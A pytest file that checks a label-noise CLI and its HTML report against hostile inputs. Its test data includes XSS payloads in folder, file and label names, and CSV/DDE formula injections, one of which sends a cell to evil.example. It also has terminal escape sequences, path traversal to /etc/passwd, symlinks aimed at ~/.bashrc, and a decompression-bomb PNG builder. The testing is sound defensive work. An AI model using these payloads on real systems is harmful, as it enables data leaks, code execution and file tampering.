"""Untrusted inputs: names, CSVs and files chosen by strangers.

A user runs ``skclip-noise`` on web-crawled image folders (file and folder names, so class
names, chosen by whoever uploaded them), on CSVs and ``decisions.csv`` files sent by
colleagues, and opens the outputs in a browser and in Excel. Each test states what that
user should see; those that fail today name a defect (see each docstring).

Cheap by construction: the command line runs with a stand-in detector (no embedding)
where only its outputs matter, with the tiny random CLIP where a real fit must run, and
one headless Chromium session (skipped where Chromium, its driver or Selenium is absent).
"""

from __future__ import annotations

import csv
import json
import os
import re
import struct
import time
import zlib
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest
from conftest import SELENIUM_MISSING, StopFit, class_folders, cli_exit, headless_chromium, image_files

from skclip_noise import apply_decisions, cli
from skclip_noise._cli_inputs import read_detect_input
from skclip_noise.report import label_issues_html
from skclip_noise.report._review import REVIEW_SCRIPT

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")  # random features: the detectors' advice

TINY = ["--backbone", "open_clip:skclip-tiny", "--pretrained", "none", "--device", "cpu",
        "--n-neighbors", "2", "--cv", "2", "--quiet"]

#: Folder (= class) and file names a crawl may hold: markup that would run if not escaped.
HOSTILE_FOLDERS = (
    "<img src=x onerror=window.__xss=1>",
    '" autofocus onfocus="window.__xss=2" x="',
    "javascript:window.__xss=3",
)
HOSTILE_FILES = ("<svg onload=window.__xss=4>.png", '"><iframe src=javascript:window.__xss=5>.png')
#: Labels a CSV can hold (any text, "/" included): closers of the page's script and style.
HOSTILE_LABELS = (
    "</script><script>window.__xss=6</script>",
    "<!--<script>",
    "</style><marquee onstart=window.__xss=7>",
)
#: Spreadsheet formulas (OWASP "CSV injection"): Excel and LibreOffice run a cell that starts
#: with = + - @ (or a tab or carriage return before one of them).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Unicode's bidirectional controls: they reorder the text shown after them.
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")


def _is_formula(cell):
    """True for a cell a spreadsheet would run as a formula (a plain number like -2 is not)."""
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _csv_cells(path):
    with open(path, newline="", encoding="utf-8-sig", errors="surrogateescape") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


class _Page(HTMLParser):
    """What a browser would build from the page: elements, attributes, visible text, scripts."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text, self.scripts = [], [], [], []
        self._in_script = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)
        if tag == "script":
            self._in_script = [dict(attrs), ""]
            self.scripts.append(self._in_script)

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = None

    def handle_data(self, data):
        if self._in_script is not None:
            self._in_script[1] += data
        else:
            self.text.append(data)

    def visible(self):
        """The text a reader sees: text nodes and tooltips (``title``)."""
        return self.text + [value for _, name, value in self.attributes if name == "title"]


def _assert_no_injection(page_text, names):
    """The page holds only its own elements, its two scripts and data-URI images, and shows
    each of ``names`` as text."""
    page = _Page(page_text)
    handlers = [(tag, name) for tag, name, _ in page.attributes if name.startswith("on") or name == "autofocus"]
    assert not handlers, f"a name became an attribute of the page: {handlers[:3]}"
    foreign = sorted({tag for tag in page.tags} & {"svg", "iframe", "marquee", "object", "embed", "base", "form"})
    assert not foreign, f"a name became an element of the page: {foreign}"
    sources = [value for tag, name, value in page.attributes if name in ("src", "href", "action", "formaction")]
    assert all(value.startswith("data:image/png;base64,") for value in sources), sources[:3]
    assert len(page.scripts) == 2, f"{len(page.scripts)} script elements; the page has 2 of its own"
    classes_json, review = page.scripts
    assert classes_json[0].get("type") == "application/json" and review[1] == REVIEW_SCRIPT
    shown = "".join(page.visible())
    for name in names:
        assert name in shown, f"{name!r} is not shown as text"
    return page


def _csv_input(folder, labels, per_label=2):
    """A ``path,label`` CSV in ``folder`` with ``per_label`` random images per label."""
    paths = image_files(folder / "images", per_label * len(labels))
    rows = [(os.path.relpath(path, folder), label) for path, label in zip(paths, np.repeat(labels, per_label))]
    table = folder / "labels.csv"
    pd.DataFrame(rows, columns=["path", "label"]).to_csv(table, index=False)
    return table, [label for _, label in rows]


# ------------------------------------------------------------------ HTML and JS injection


def test_report_of_a_crawled_folder_shows_markup_in_folder_and_file_names_as_text(tmp_path, capsys, stand_in):
    """Folder names (classes) and file names holding markup, event handlers and
    ``javascript:`` URLs are shown as text in ``report.html``: no element, attribute or
    script of theirs gets into the page, and the review's class list holds them verbatim."""
    data = class_folders(tmp_path / "crawl", classes=HOSTILE_FOLDERS, per_class=2)
    for name in HOSTILE_FILES:
        image_files(tmp_path / "one", 1)[0].rename(data / HOSTILE_FOLDERS[0] / name)
    status, err = cli_exit(["detect", str(data), "--output-dir", str(tmp_path / "out"), "--quiet"], capsys)
    assert status == 0, err
    page = _assert_no_injection((tmp_path / "out" / "report.html").read_text(encoding="utf-8"),
                                HOSTILE_FOLDERS + HOSTILE_FILES)
    assert json.loads(page.scripts[0][1]) == sorted(HOSTILE_FOLDERS)


def test_report_of_a_csv_keeps_script_and_style_closers_in_labels_inert(tmp_path, capsys, stand_in):
    """Labels from a CSV that close the page's ``<script>`` (also inside the embedded JSON)
    or ``<style>``, or open an HTML comment inside a script, stay text: the page keeps its
    own two scripts and the JSON class list parses back to the labels."""
    table, _ = _csv_input(tmp_path, list(HOSTILE_LABELS) + ["cat"])
    status, err = cli_exit(["detect", str(table), "--output-dir", str(tmp_path / "out"), "--quiet"], capsys)
    assert status == 0, err
    page = _assert_no_injection((tmp_path / "out" / "report.html").read_text(encoding="utf-8"), HOSTILE_LABELS)
    assert json.loads(page.scripts[0][1]) == sorted(list(HOSTILE_LABELS) + ["cat"])


def test_notebook_form_of_the_report_escapes_labels_index_and_class_names_too(digits):
    """The HTML string a notebook shows (``path=None``), with the noise heat map and a
    pandas index of hostile sample ids, is as inert as the file."""
    X, _ = digits
    labels = np.array([*HOSTILE_LABELS, *HOSTILE_FOLDERS, "cat"], dtype=object)
    n = len(labels)
    issues = pd.DataFrame({"is_label_issue": True, "label_quality": np.linspace(0.1, 0.4, n),
                           "given_label": labels, "predicted_label": np.roll(labels, 1)},
                          index=pd.Index([f"{name}#{i}" for i, name in enumerate(labels)]))
    page = label_issues_html(X[:n], issues, noise_transition=np.eye(n), classes=labels)
    _assert_no_injection(page, tuple(labels))


def test_report_does_not_let_a_direction_override_disguise_one_class_as_another(tmp_path, capsys, stand_in):
    """A crawl's folder ``"\\u202etac"`` (RIGHT-TO-LEFT OVERRIDE, then "tac") is displayed by
    every browser as "cat", indistinguishable from the real class ``cat`` in the cards, the
    class filter and the heat map, so a reviewer relabels images to the wrong class or keeps
    a label they would have fixed. A file ``"photo\\u202egnp.exe"`` likewise shows as
    "photoexe.png". Expected: the names' direction controls are shown visibly (e.g.
    ``<U+202E>tac``) wherever the page displays a name (text and tooltips), as terminals
    and code review tools do since "Trojan Source".

    Before the fix: report/html.py ``_text`` and report/_review.py ``_options`` (and
    ``_transition_html``) escape HTML only; the controls reach the page's text raw."""
    data = class_folders(tmp_path / "crawl", classes=("cat", "\u202etac"), per_class=2)
    image_files(tmp_path / "one", 1)[0].rename(data / "cat" / "photo\u202egnp.exe.png")
    status, err = cli_exit(["detect", str(data), "--output-dir", str(tmp_path / "out"), "--quiet"], capsys)
    assert status == 0, err
    page = _Page((tmp_path / "out" / "report.html").read_text(encoding="utf-8"))
    disguised = sorted({text for text in page.visible() if BIDI_CONTROLS.search(text)})
    assert not disguised, f"the page displays names with raw direction controls: {disguised[:4]}"


# ------------------------------------------------------------------ CSV (formula) injection


@pytest.fixture
def formula_run(tmp_path, capsys, stand_in):
    """``detect`` on a colleague's CSV whose labels are formulas, then ``apply`` of decisions
    that relabel one image to a formula class and drop another; (outputs folder, labels)."""
    table, labels = _csv_input(tmp_path, [*FORMULAS, "cat"])
    out = tmp_path / "out"
    status, err = cli_exit(["detect", str(table), "--output-dir", str(out), "--quiet"], capsys)
    assert status == 0, err
    rows = pd.DataFrame({"sample": ["0", "9"], "given_label": [labels[0], labels[9]],
                         "decision": ["relabel", "drop"], "label": [FORMULAS[1], ""]})
    rows.to_csv(out / "decisions.csv", index=False)
    status, err = cli_exit(["apply", str(table), str(out / "decisions.csv"), "--quiet"], capsys)
    assert status == 0, err
    return out, table, labels


def test_label_issues_csv_does_not_hand_excel_a_formula_from_a_label(formula_run):
    """``label_issues.csv`` opened in Excel or LibreOffice runs no formula: a label (or
    suggested label) that starts with ``=``, ``+``, ``-`` or ``@`` is written so that the
    spreadsheet shows it as text (OWASP: prefix such cells with ``'``), and what the library
    reads back is the label itself (see the round-trip test below).

    Before the fix, the cells are written raw (cli.py ``_write_outputs``: ``DataFrame.to_csv``), so
    ``=HYPERLINK("http://evil.example/?leak="&A1, ...)`` becomes a live link that sends a
    cell to a stranger's server, and ``@SUM(1+1)*cmd|' /C calc'!A0`` a DDE command."""
    out, _, _ = formula_run
    formulas = sorted({cell for cell in _csv_cells(out / "label_issues.csv") if _is_formula(cell)})
    assert not formulas, f"label_issues.csv hands a spreadsheet {len(formulas)} formulas, e.g. {formulas[:2]}"


def test_corrected_csv_of_apply_does_not_hand_excel_a_formula_from_a_label(formula_run):
    """``apply``'s corrected ``path,label`` CSV, which users open in a spreadsheet to check,
    runs no formula either. Before the fix, cli.py ``run_apply`` writes the labels raw (``to_csv``)."""
    out, _, _ = formula_run
    formulas = sorted({cell for cell in _csv_cells(out / "corrected_labels.csv") if _is_formula(cell)})
    assert not formulas, f"corrected_labels.csv hands a spreadsheet {len(formulas)} formulas, e.g. {formulas[:2]}"


def test_labels_that_look_like_formulas_survive_detect_apply_detect(formula_run):
    """Whatever the CSVs do against formulas, the labels themselves round-trip: the corrected
    CSV read by ``detect`` again gives each kept image its label (the relabelled one its new
    class), character for character."""
    out, _, labels = formula_run
    paths, read, _ = read_detect_input(str(out / "corrected_labels.csv"))
    expected = list(labels)
    expected[0] = FORMULAS[1]
    del expected[9]
    assert list(read) == expected
    assert len(paths) == len(expected)


def test_unreadable_csv_names_hostile_files_without_a_formula(unreadable_run):
    """``unreadable.csv`` lists a skipped file whose folder and name are formulas by its
    absolute path, so no cell starts a formula."""
    out, _ = unreadable_run
    cells = _csv_cells(out / "unreadable.csv")
    assert any(cell.endswith("@SUM(1+1).png") for cell in cells), cells
    assert not [cell for cell in cells if _is_formula(cell)]


# ------------------------------------------------------------------ the review page in a browser


def _hostile_review(tmp_path):
    """A review page whose labels are formulas, hostile markup and a folder-length name."""
    long_name = "a-very-long-class-name-" * 10  # 230 characters: a folder name may have 255 bytes
    names = np.array([*FORMULAS, HOSTILE_LABELS[0], 'quote " and, comma', long_name], dtype=object)
    y = np.array([names[i % len(names)] for i in range(2 * len(names))], dtype=object)
    suggested = np.array([names[(i + 1) % len(names)] for i in range(len(y))], dtype=object)
    X = np.random.default_rng(0).integers(0, 256, (len(y), 8, 8), dtype=np.uint8)
    issues = pd.DataFrame({"is_label_issue": True, "label_quality": np.linspace(0.05, 0.45, len(y)),
                           "given_label": y, "predicted_label": suggested})
    page = label_issues_html(X, issues, tmp_path / "report.html", classes=sorted(names))
    return page, y, suggested, long_name


@pytest.fixture(scope="module")
def reviewed_in_chromium(tmp_path_factory):
    """One headless Chromium session on a review page of hostile labels: the page's width,
    whether a payload ran, and the ``decisions.csv`` exported after accepting the
    suggestion on the first 7 cards and keeping the given label on the next 7."""
    if SELENIUM_MISSING:
        pytest.skip(SELENIUM_MISSING)

    tmp_path = tmp_path_factory.mktemp("review")
    page, y, suggested, long_name = _hostile_review(tmp_path)
    driver = headless_chromium(tmp_path)
    downloads = driver.downloads
    try:
        driver.get(f"file://{page}")
        widths = driver.execute_script(
            "var wide = Array.prototype.slice.call(document.querySelectorAll('.review *'))"
            ".filter(function (e) { return e.getBoundingClientRect().right > window.innerWidth; })"
            ".map(function (e) { return e.tagName + '#' + e.id + ' ' + Math.round(e.getBoundingClientRect().width); });"
            "return [document.documentElement.scrollWidth, window.innerWidth, wide];")
        for position in range(14):
            action = "accept" if position < 7 else "keep"
            driver.find_element(
                "css selector", f'article.card[data-sample="{position}"] button[data-action="{action}"]').click()
        xss = driver.execute_script("return window.__xss === undefined ? null : window.__xss")
        driver.find_element("id", "export-decisions").click()
        exported = downloads / "decisions.csv"
        for _ in range(50):
            if exported.is_file() and exported.stat().st_size:
                break
            time.sleep(0.1)
        time.sleep(0.2)
    finally:
        driver.quit()
    return dict(widths=widths, xss=xss, exported=exported, y=y, suggested=suggested, long_name=long_name)


@pytest.mark.optional_data
def test_review_page_runs_no_payload_of_a_label(reviewed_in_chromium):
    """In a real browser, no label's markup runs (nothing sets ``window.__xss``)."""
    assert reviewed_in_chromium["xss"] is None


@pytest.mark.optional_data
def test_exported_decisions_csv_does_not_hand_excel_a_formula(reviewed_in_chromium):
    """The review's ``decisions.csv``, which reviewers open in Excel to look over or share,
    runs no formula: a given label or new label starting with ``=``, ``+``, ``-`` or ``@`` is
    exported as text (and ``apply`` reads it back as the label: next test).

    Before the fix, ``quote()`` in report/_review.py ``REVIEW_SCRIPT`` (``exportDecisions``) quotes
    commas and quotes only, so the labels reach the spreadsheet as live formulas."""
    formulas = sorted({cell for cell in _csv_cells(reviewed_in_chromium["exported"]) if _is_formula(cell)})
    assert not formulas, f"decisions.csv hands a spreadsheet {len(formulas)} formulas, e.g. {formulas[:2]}"


@pytest.mark.optional_data
def test_exported_decisions_with_hostile_labels_apply_to_exactly_those_labels(reviewed_in_chromium):
    """Formula-like labels, quotes, commas and ``</script>`` in labels survive the export and
    ``apply_decisions``: the accepted cards get their suggested label, the kept ones theirs."""
    y, suggested = reviewed_in_chromium["y"], reviewed_in_chromium["suggested"]
    labels, keep = apply_decisions(y, reviewed_in_chromium["exported"])
    expected = y.copy()
    expected[:7] = suggested[:7]
    assert labels.tolist() == expected.tolist() and keep.all()


@pytest.mark.optional_data
def test_review_page_stays_as_wide_as_the_window_with_a_long_class_name(reviewed_in_chromium):
    """A crawl's folder name may be 255 bytes long. With a 230-character class the review
    page still fits a 1280 px window: the cards clamp and ellipsize long labels already, the
    toolbar should too. Before the fix, the "Given class" filter (``<select id="filter-class">``) grows
    to the longest class name, about 1,700 px, so the whole page scrolls sideways and the
    toolbar's controls spread over two screens. Root cause: report/_review.py
    ``REVIEW_CSS`` gives ``.review select`` no ``max-width``."""
    scroll_width, window_width, wide = reviewed_in_chromium["widths"]
    assert scroll_width <= window_width, (
        f"the page is {scroll_width} px wide in a {window_width} px window; too wide: {wide[:3]}")


# ------------------------------------------------------------------ the terminal


def test_detect_error_does_not_send_terminal_control_sequences_from_a_file_name(tmp_path, capsys):
    """A crawled file named ``\\x1b]0;pwned\\x07\\x1b[2Jx.png`` (ESC and BEL are legal in file
    names) that cannot be read is named in ``detect``'s error, but its control characters are
    shown escaped: printed raw, they retitle the terminal window and clear the screen (other
    sequences rewrite the clipboard, or hide the rest of the message).

    Before the fix, _cli_inputs.py ``check_images_readable`` puts the path into the message as is
    (``f"{path} ({reason})"``) and cli.py ``main`` only folds whitespace; the same holds for
    ``list_unreadable``'s "e.g." path."""
    data = class_folders(tmp_path / "crawl", per_class=2)
    (data / "cat" / "\x1b]0;pwned\x07\x1b[2Jx.png").write_bytes(b"not an image")
    status, err = cli_exit(["detect", str(data), "--output-dir", str(tmp_path / "out"), "--quiet"], capsys)
    assert status == 2
    assert "x.png" in err, err
    assert "\x1b" not in err and "\x07" not in err, f"raw control characters reach the terminal: {err!r}"


# ------------------------------------------------------------------ paths


def test_csv_input_pointing_outside_its_folder_is_refused_naming_the_file(tmp_path, capsys):
    """A colleague's CSV whose path climbs out of its folder to ``/etc/passwd`` gets a one-line
    refusal naming that file as not an image, before any work (no traceback)."""
    class_folders(tmp_path / "data", per_class=2)
    table = tmp_path / "labels.csv"
    climb = "../" * 20 + "etc/passwd"
    table.write_text(f"path,label\n{climb},cat\ndata/cat/0.png,dog\n")
    status, err = cli_exit(["detect", str(table), "--output-dir", str(tmp_path / "out"), "--quiet"], capsys)
    assert status == 2
    assert "etc/passwd" in err and "not an image" in err, err


@pytest.mark.parametrize("path", ["/etc/passwd", "../../../../../../../../etc/passwd", "cat/../../../etc/passwd"])
def test_apply_refuses_decisions_whose_paths_point_outside_input(tmp_path, capsys, path):
    """A ``decisions.csv`` whose ``path`` column names a file outside INPUT decides nothing:
    ``apply`` exits 2 naming the line, and writes no corrected CSV."""
    data = class_folders(tmp_path / "data", per_class=2)
    decisions = tmp_path / "decisions.csv"
    decisions.write_text(f"sample,given_label,decision,label,path\n0,cat,drop,,{path}\n")
    status, err = cli_exit(["apply", str(data), str(decisions), "--quiet"], capsys)
    assert status == 2
    assert "line 2" in err and "not among" in err, err
    assert not (tmp_path / "corrected_labels.csv").exists()


def test_symlink_loops_in_an_image_folder_list_each_image_once(tmp_path, capsys, recorded_fit):
    """A crawl with a link back to its root and a link to its own folder: ``detect`` finishes
    listing, each image once, every image under its own class."""
    data = class_folders(tmp_path / "crawl", per_class=3)
    os.symlink(data, data / "cat" / "up")
    os.symlink(data / "dog", data / "dog" / "self")
    with pytest.raises(StopFit):
        cli.main(["detect", str(data), "--output-dir", str(tmp_path / "out"), "--quiet"])
    real = [os.path.realpath(path) for path in recorded_fit["X"]]
    assert len(real) == len(set(real)) == 6
    assert [os.path.basename(os.path.dirname(path)) for path in real] == recorded_fit["y"]


def test_detect_replaces_an_output_that_is_a_link_to_a_file_elsewhere(tmp_path, capsys, stand_in):
    """An output folder from elsewhere (an unpacked archive) whose ``report.html`` is a link to
    a file of the user's: ``detect`` replaces the link with its report and leaves that file
    as it was."""
    data = class_folders(tmp_path / "data", per_class=2)
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "notes.txt"
    victim.write_text("precious")
    os.symlink(victim, out / "report.html")
    status, err = cli_exit(["detect", str(data), "--output-dir", str(out), "--quiet"], capsys)
    assert status == 0, err
    assert victim.read_text() == "precious"
    assert not os.path.islink(out / "report.html") and "<!DOCTYPE html>" in (out / "report.html").read_text()


def test_detect_writes_nothing_through_a_dangling_link_in_the_output_folder(tmp_path, capsys, stand_in):
    """The same output folder whose ``label_issues.csv`` is a link to a file that does not
    exist yet (``~/.config/autostart/x.desktop``, say): ``detect`` writes its CSV in the
    output folder and creates nothing elsewhere, as it does for a link to an existing file
    (previous test).

    Before the fix, cli.py ``_replace_outputs_of_an_earlier_run`` removes an earlier output only when
    ``os.path.isfile`` (which follows the link) is true, so a dangling link stays and
    ``_write_outputs``' ``to_csv`` creates its target outside the output folder. Fix: remove
    with ``os.path.lexists``/``islink``, or write each output to a temporary file in the
    folder and ``os.replace`` it (which also makes the pair's replacement atomic)."""
    data = class_folders(tmp_path / "data", per_class=2)
    out = tmp_path / "out"
    out.mkdir()
    elsewhere = tmp_path / "elsewhere" / "autostart.desktop"
    elsewhere.parent.mkdir()
    os.symlink(elsewhere, out / "label_issues.csv")
    status, err = cli_exit(["detect", str(data), "--output-dir", str(out), "--quiet"], capsys)
    assert status == 0, err
    assert not elsewhere.exists(), "detect created a file outside --output-dir through a dangling link"


def test_apply_does_not_overwrite_a_file_elsewhere_through_a_link_shipped_beside_decisions(tmp_path, capsys):
    """A colleague's ``review.zip`` holds ``decisions.csv`` and a symbolic link
    ``corrected_labels.csv -> ~/.bashrc``. ``skclip-noise apply photos review/decisions.csv``
    writes its default output "beside DECISIONS": it must not overwrite the link's target
    (replace the link, or refuse naming it and ``--output``); the user's file stays as it was.

    Before the fix, cli.py ``run_apply`` checks only that the output is not INPUT or DECISIONS
    (``os.path.samefile``) and ``to_csv`` writes through the link, replacing the file."""
    data = class_folders(tmp_path / "photos", per_class=2)
    review = tmp_path / "review"
    review.mkdir()
    (review / "decisions.csv").write_text("sample,given_label,decision,label\n0,cat,relabel,dog\n")
    victim = tmp_path / "bashrc"
    victim.write_text("export PATH=$HOME/bin:$PATH\n")
    os.symlink(victim, review / "corrected_labels.csv")
    cli_exit(["apply", str(data), str(review / "decisions.csv"), "--quiet"], capsys)
    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n", "apply overwrote the link's target"


# ------------------------------------------------------------------ decompression bombs


def _bomb_png(path, side=20000):
    """A valid 8-bit grey PNG of ``side`` x ``side`` zeros: 400 M pixels for 20000, over
    PIL's refusal limit (179 M), in about 0.4 MB."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    compressor = zlib.compressobj(9)
    rows = b"\x00" * ((side + 1) * 500)
    data = b"".join(compressor.compress(rows) for _ in range(side // 500)) + compressor.flush()
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
                     + chunk(b"IDAT", data) + chunk(b"IEND", b""))
    return path


@pytest.fixture(scope="module")
def bomb_folder(tmp_path_factory):
    """A crawl of cat and dog images, one of them a decompression bomb ``@SUM(1+1).png`` in
    the class folder ``=HYPERLINK(...)``; (folder, bomb path)."""
    data = class_folders(tmp_path_factory.mktemp("bomb") / "crawl",
                         classes=("cat", '=HYPERLINK("http:evil.example","x")'), per_class=4)
    return data, _bomb_png(data / '=HYPERLINK("http:evil.example","x")' / "@SUM(1+1).png")


@pytest.fixture(scope="module")
def unreadable_run(bomb_folder, tmp_path_factory):
    """``detect --skip-unreadable`` on the folder with the bomb, with the tiny CLIP."""
    import torch

    data, bomb = bomb_folder
    out = tmp_path_factory.mktemp("unreadable") / "out"
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    try:
        status = cli.main(["detect", str(data), "--output-dir", str(out), "--skip-unreadable", *TINY])
    finally:
        torch.set_num_threads(threads)
    assert status == 0
    return out, bomb


def test_skip_unreadable_lists_a_decompression_bomb_as_too_large_and_goes_on(unreadable_run):
    """``--skip-unreadable`` does not decode the bomb: the run completes and ``unreadable.csv``
    lists it as too large to decode safely."""
    out, bomb = unreadable_run
    listed = pd.read_csv(out / "unreadable.csv")
    assert listed["path"].tolist() == [str(bomb)]
    assert listed["reason"].iloc[0].startswith("too large to decode safely")
    assert (out / "report.html").is_file()


def test_detect_refuses_a_decompression_bomb_stating_the_real_limit(bomb_folder, tmp_path, capsys):
    """Without ``--skip-unreadable``, ``detect`` refuses the bomb before any work, naming it
    and why; every figure it states is the image's or PIL's (400,000,000 pixels, limit
    178,956,970).

    Before the fix, the message says "exceeds limit of 17895)": _cli_inputs.py
    ``check_images_readable`` cuts each reason at 80 characters (``reason[:80]``), in the
    middle of PIL's number, so the user reads a limit ten thousand times smaller than the
    real one. Fix: cut at a word with an ellipsis, or word the bomb's reason short
    (decoding.py ``unreadable_reason``)."""
    from PIL import Image

    data, bomb = bomb_folder
    status, err = cli_exit(["detect", str(data), "--output-dir", str(tmp_path / "out"), "--quiet"], capsys)
    assert status == 2
    assert str(bomb) in err and "too large" in err, err
    stated = {figure.replace(",", "") for figure in re.findall(r"\d[\d,]*", err.split(str(bomb), 1)[1])}
    true = {"20000", "400000000", str(Image.MAX_IMAGE_PIXELS), str(2 * Image.MAX_IMAGE_PIXELS)}
    assert stated <= true, f"the message states {sorted(stated - true)}, which are not the image's or PIL's figures: {err}"


def test_report_shows_a_decompression_bomb_as_an_unreadable_card_without_decoding_it(bomb_folder, tmp_path):
    """``label_issues_html`` on paths that include a bomb writes the page, with that card
    saying the image could not be read (and why, in its tooltip), and warns."""
    data, bomb = bomb_folder
    paths = [str(bomb), str(data / "cat" / "0.png")]
    issues = pd.DataFrame({"is_label_issue": True, "label_quality": [0.1, 0.2],
                           "given_label": ["cat", "cat"], "predicted_label": ["dog", "dog"]})
    with pytest.warns(UserWarning, match="could not be read"):
        page = label_issues_html(paths, issues, tmp_path / "report.html")
    text = open(page, encoding="utf-8").read()
    assert text.count("image could not be read") == 1 and "too large to decode safely" in text
